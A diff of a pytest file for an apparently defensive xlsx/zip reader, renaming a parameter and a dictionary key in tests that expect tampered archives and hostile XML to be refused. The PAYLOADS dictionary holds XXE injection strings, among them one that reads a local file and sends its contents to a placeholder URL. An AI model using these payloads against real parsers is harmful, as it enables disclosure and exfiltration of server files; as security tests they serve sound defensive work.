@@ -112,12 +112,12 @@ def test_a_flipped_bit_is_found_or_does_not_matter(tmp_path, whole, count):
 OFFSETS = {"method": 8, "checksum": 14, "packed size": 18, "size": 22}  # in the header in front of a part
 
 
-@pytest.mark.parametrize("told", OFFSETS)
-def test_a_part_whose_own_header_says_something_else_than_the_directory_is_refused(tmp_path, told):
+@pytest.mark.parametrize("field", OFFSETS)
+def test_a_part_whose_own_header_says_something_else_than_the_directory_is_refused(tmp_path, field):
     path = write_parts(tmp_path / "orders.xlsx", workbook_parts(texts=("x",)))
     content = bytearray(path.read_bytes())
     with zipfile.ZipFile(path) as archive:
-        content[archive.infolist()[-1].header_offset + OFFSETS[told]] ^= 7
+        content[archive.infolist()[-1].header_offset + OFFSETS[field]] ^= 7
     path.write_bytes(content)
     assert refusal(path, ASKED).code == "R235"
 
@@ -137,7 +137,7 @@ PAYLOADS = {  # what stands between the declaration of a part and its first elem
     "parameter entity from a file": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{file}"> %p;]>',
     "parameter entity from the web": '<!DOCTYPE x [<!ENTITY % p SYSTEM "{url}"> %p;]>',
     "file sent to the web": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'{url}?%f;\'>">%a;%s;]>',
-    "file told by an error": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'file:///%f;\'>">%a;%s;]>',
+    "file shown by an error": '<!DOCTYPE x [<!ENTITY % f SYSTEM "{file}"><!ENTITY % a "<!ENTITY &#x25; s SYSTEM \'file:///%f;\'>">%a;%s;]>',
     "parameter entity redefined": "<!DOCTYPE x [<!ENTITY % p \"<!ENTITY e 'x'>\"> %p;]>",
     "document type from a file": '<!DOCTYPE x SYSTEM "{file}">',
     "document type from the web": '<!DOCTYPE x SYSTEM "{url}">',
